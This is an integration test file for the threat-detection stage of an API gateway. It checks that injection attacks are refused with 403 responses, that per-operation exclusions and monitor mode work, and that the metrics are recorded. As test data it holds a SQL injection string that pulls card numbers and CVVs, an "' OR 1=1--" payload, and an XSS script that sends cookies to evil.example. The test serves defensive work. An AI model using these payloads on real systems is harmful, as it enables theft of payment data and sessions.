// The threats stage in the real gateway: with no OpenAPI document (protect any path) and with one
// (exclusions by operation), monitor mode, the 403 problem+json, stored events and the metric.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { request } from 'undici';
import { listenerYaml, route, startTestGateway, startUpstream, type TestGateway, type TestUpstream } from '../helpers/harness.js';

const SHOP = join(import.meta.dirname, '../fixtures/contract/shop.yaml');
const SQLI = encodeURIComponent("x' UNION SELECT card_number, cvv FROM payments--");

interface Problem { status: number; ruleId: string; detail: string; errors?: { location: string; problem: string }[] }

describe('threats stage in the gateway', () => {
  let api: TestUpstream;
  let gw: TestGateway;

  before(async () => {
    api = await startUpstream();
    gw = await startTestGateway(`${listenerYaml()}
stages:
  threats:
    exclusions:
      - { rules: ['sqli.*'], locations: [query.q], operations: [search], reason: 'search terms go to a full-text index, never to SQL' }
routes:
${route('shop', api.url, `    match: { pathPrefix: /api }
    openapi: { document: ${JSON.stringify(SHOP)} }`)}
${route('watched', api.url, `    match: { pathPrefix: /watched }
    stages:
      threats: { mode: monitor }`)}
${route('any', api.url)}`);
  });
  after(async () => {
    await gw.close();
    await api.close();
  });

  test('without a document, an attack anywhere is refused with 403 problem+json naming the rules', async () => {
    const seenBefore = api.seen.length;
    const res = await request(`${gw.url}/anything/here?id=${SQLI}`);
    assert.equal(res.statusCode, 403);
    assert.equal(res.headers['content-type'], 'application/problem+json');
    const problem = await res.body.json() as Problem;
    assert.equal(problem.ruleId, 'threats.attack');
    assert.ok(problem.errors?.some((error) => error.location === 'query.id' && error.problem.startsWith('sqli.')), JSON.stringify(problem));
    assert.equal(api.seen.length, seenBefore, 'the upstream never saw it');
    const requestId = res.headers['x-request-id'];
    const event = (await gw.events()).find((stored) => stored.requestId === requestId);
    assert.equal(event?.ruleId, 'threats.attack');
    assert.equal(event?.action, 'blocked');
    const evidence = event?.evidence as { location: string; matched: string; rules: string[]; score: number };
    assert.equal(evidence.location, 'query.id');
    assert.ok(evidence.rules.length > 0 && evidence.score >= 5);
    assert.match(evidence.matched, /UNION/i);
  });

  test('ordinary traffic passes, bodies included', async () => {
    const get = await request(`${gw.url}/anything?q=${encodeURIComponent("O'Reilly & sons: select a plan")}`);
    assert.equal(get.statusCode, 200);
    await get.body.dump();
    const post = await request(`${gw.url}/comments`, {
      method: 'POST', headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ text: 'Use `rm -rf build/` before `npm ci`; see <b>docs</b> at https://example.com/a?b=c', rating: 5 }),
    });
    assert.equal(post.statusCode, 200, await post.body.text());
    assert.equal(JSON.parse(api.seen.at(-1)!.body.toString()).rating, 5, 'the body reaches the upstream unchanged');
  });

  test('an attack in a JSON body is refused before it reaches the upstream', async () => {
    const res = await request(`${gw.url}/comments`, {
      method: 'POST', headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ text: 'nice', author: { name: '<script>document.location="https://evil.example/?c="+document.cookie</script>' } }),
    });
    assert.equal(res.statusCode, 403);
    const problem = await res.body.json() as Problem;
    assert.ok(problem.errors?.some((error) => error.location === 'body.$.author.name' && error.problem.startsWith('xss.')), JSON.stringify(problem));
  });

  test('with a document, an exclusion applies to its operation only', async () => {
    const search = await request(`${gw.url}/api/v1/search?q=${SQLI}`);
    assert.equal(search.statusCode, 200, await search.body.text());
    const other = await request(`${gw.url}/api/v1/search?q=ok&x=${SQLI}`);
    assert.equal(other.statusCode, 403, 'another parameter of the operation is still inspected');
    await other.body.dump();
    const note = await request(`${gw.url}/api/v1/notes`, {
      method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: "' OR 1=1--" }),
    });
    assert.equal(note.statusCode, 403);
    assert.equal((await note.body.json() as Problem).ruleId, 'threats.attack');
  });

  test('monitor mode lets the attack through and records it as monitored', async () => {
    const res = await request(`${gw.url}/watched/x?id=${SQLI}`);
    assert.equal(res.statusCode, 200);
    await res.body.dump();
    const requestId = res.headers['x-request-id'];
    const events = (await gw.events()).filter((stored) => stored.requestId === requestId);
    assert.deepEqual(events.map((stored) => [stored.ruleId, stored.action]), [['threats.attack', 'monitored']]);
  });

  test('events are counted in bulwark_security_events_total', async () => {
    const text = await (await request(`${gw.adminUrl}/metrics`)).body.text();
    assert.match(text, /bulwark_security_events_total\{stage="threats",rule="threats.attack",route="any",action="blocked"\} [1-9]/);
    assert.match(text, /bulwark_security_events_total\{stage="threats",rule="threats.attack",route="watched",action="monitored"\} 1/);
  });
});
